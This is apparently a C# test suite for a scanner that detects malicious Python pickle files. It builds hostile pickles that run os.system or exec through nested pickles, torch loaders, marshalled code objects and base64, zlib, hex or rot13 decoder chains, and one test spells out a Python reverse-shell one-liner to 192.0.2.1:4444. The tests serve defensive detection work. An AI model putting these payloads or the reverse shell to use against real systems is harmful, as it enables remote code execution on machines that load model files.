using System.Text;
using Assay.Testing;

namespace Assay.Scanning.Tests.Evasions;

/// <summary>Payloads inside arguments: pickles, packed text, code objects, programs.</summary>
public sealed class NestedPayloads
{
    private const string Source = PickleSamples.Source;

    [Theory]
    [InlineData("pickle", "loads")]
    [InlineData("_pickle", "loads")]
    [InlineData("cPickle", "loads")]
    [InlineData("dill", "loads")]
    [InlineData("cloudpickle", "loads")]
    [InlineData("torch.storage", "_load_from_bytes")]
    public void A_pickle_given_to_a_loader_is_read(string module, string name) =>
        ScanAssert.Malicious(PickleBuilder.Of(2).Call(module, name, PickleSamples.System()).Stop(), "system");

    [Fact]
    public void Honest_bytes_for_the_loader_of_torch_are_clean() =>
        ScanAssert.Clean(PickleBuilder.Of(2).Call("torch.storage", "_load_from_bytes", TorchBuilder.Legacy()).Stop());

    [Fact]
    public void A_hostile_checkpoint_for_the_loader_of_torch_is_malicious()
    {
        ScanAssert.Malicious(PickleBuilder.Of(2).Call("torch.storage", "_load_from_bytes", TorchBuilder.Legacy(PickleSamples.System(), 1)).Stop(), "system");
        ScanAssert.Malicious(PickleBuilder.Of(2).Call("torch.storage", "_load_from_bytes", TorchBuilder.Zip(PickleSamples.System())).Stop(), "system");
    }

    [Fact]
    public void Pickles_in_pickles_in_pickles_are_read() =>
        ScanAssert.Malicious(
            PickleBuilder.Of(4).Call("pickle", "loads", PickleBuilder.Of(4).Call("pickle", "loads", PickleBuilder.Of(4).Call("pickle", "loads", PickleSamples.System()).Stop()).Stop()).Stop(), "system");

    [Fact]
    public void A_decoder_chain_is_unfolded()
    {
        var packed = Convert.ToBase64String(JoblibBuilder.ZLib(Encoding.UTF8.GetBytes(Source)));
        var report = ScanAssert.Malicious(
            PickleBuilder.Of(4).Global("builtins", "exec").Mark().Global("zlib", "decompress").Mark().Call("base64", "b64decode", packed).Tuple().Reduce().Tuple().Reduce().Stop(), "exec");
        ScanAssert.Explains(report, "print");
        ScanAssert.Malicious(
            PickleBuilder.Of(4).Global("builtins", "eval").Mark().Call("binascii", "unhexlify", Convert.ToHexStringLower(Encoding.UTF8.GetBytes(Source))).Tuple().Reduce().Stop(), "print");
        ScanAssert.Malicious(
            PickleBuilder.Of(4).Global("builtins", "exec").Mark().Call("_codecs", "decode", PickleSamples.Rot13(Source), "rot13").Tuple().Reduce().Stop(), "print");
    }

    [Fact]
    public void Decoding_bytes_as_Python_2_compatible_pickles_do_is_clean() =>
        ScanAssert.Clean(PickleBuilder.Of(2).Call("_codecs", "encode", "\u0001\u00ff data", "latin1").Stop());

    [Fact]
    public void A_code_object_that_runs_is_malicious()
    {
        var report = ScanAssert.Malicious(
            PickleBuilder.Of(4).Global("builtins", "exec").Mark().Call("marshal", "loads", MarshalledCode("os", "system")).Tuple().Reduce().Stop(), "exec|system");
        ScanAssert.Explains(report, "system");
    }

    [Fact]
    public void A_function_made_of_a_code_object_is_malicious() =>
        ScanAssert.Malicious(
            PickleBuilder.Of(4).Global("types", "FunctionType").Mark().Call("marshal", "loads", MarshalledCode("os", "system")).Value(new Dictionary<string, object>()).Tuple().Reduce()
                .EmptyTuple().Reduce().Stop(),
            "system|FunctionType|marshal");

    [Fact]
    public void A_program_in_a_constant_is_reported()
    {
        byte[] elf = [0x7f, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, .. new byte[9], 2, 0, 0x3e, 0, 1, 0, 0, 0, .. new byte[512]];
        var report = ScanAssert.Suspicious(PickleBuilder.Of(4).EmptyDict().Value("blob").BinBytes(elf).SetItem().Stop(), "");
        ScanAssert.HasRule(report, "PKL-044");
    }

    [Fact]
    public void A_pickle_kept_as_bytes_is_only_a_note_when_honest()
    {
        ScanAssert.Clean(PickleBuilder.Of(4).EmptyDict().Value("blob").BinBytes(PickleBuilder.Of(4).Value(new List<string> { "some", "honest", "words", "of", "text" }).Stop()).SetItem().Stop());
        ScanAssert.NotClean(PickleBuilder.Of(4).EmptyDict().Value("blob").BinBytes(PickleSamples.System()).SetItem().Stop());
    }

    [Fact]
    public void Source_of_a_graph_module_is_read()
    {
        const string Honest = "\n\n\ndef forward(self, x):\n    relu = torch.relu(x);  x = None\n    return relu\n    ";
        ScanAssert.NotAccused(PickleBuilder.Of(2).Call("torch.fx.graph_module", "reduce_graph_module", new Dictionary<string, object> { ["_code"] = Honest }, "import torch\n").Stop());
        ScanAssert.Suspicious(
            PickleBuilder.Of(2).Call("torch.fx.graph_module", "reduce_graph_module", new Dictionary<string, object> { ["_code"] = "import os\nos.system('echo assay')\n" + Honest }, "").Stop(), "system|graph");
    }

    [Fact]
    public void A_reverse_shell_is_named_as_one()
    {
        const string Shell = "import socket,os;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);os.system('/bin/sh -i')";
        ScanAssert.HasRule(ScanAssert.Malicious(PickleBuilder.Of(2).Call("builtins", "exec", Shell).Stop(), "exec"), "PKL-003");
    }

    /// <summary>A code object as Python 3.8 to 3.10 marshals it: no instructions that do anything, the names are what counts.</summary>
    private static byte[] MarshalledCode(params string[] names)
    {
        using var bytes = new MemoryStream();
        bytes.WriteByte(0xe3);
        for (var i = 0; i < 5; i++)
            Int(0);
        Int(64);
        bytes.Write("s\u0002\0\0\0S\0"u8);
        bytes.Write(")\u0001N"u8);
        bytes.WriteByte((byte)')');
        bytes.WriteByte((byte)names.Length);
        foreach (var name in names)
            Text(name);
        for (var i = 0; i < 3; i++)
            bytes.Write(")\0"u8);
        Text("<assay>");
        Text("<module>");
        Int(1);
        bytes.Write("s\0\0\0\0"u8);
        return bytes.ToArray();

        void Int(int value) => bytes.Write(BitConverter.GetBytes(value));

        void Text(string text)
        {
            bytes.WriteByte((byte)'z');
            bytes.WriteByte((byte)text.Length);
            bytes.Write(Encoding.ASCII.GetBytes(text));
        }
    }
}
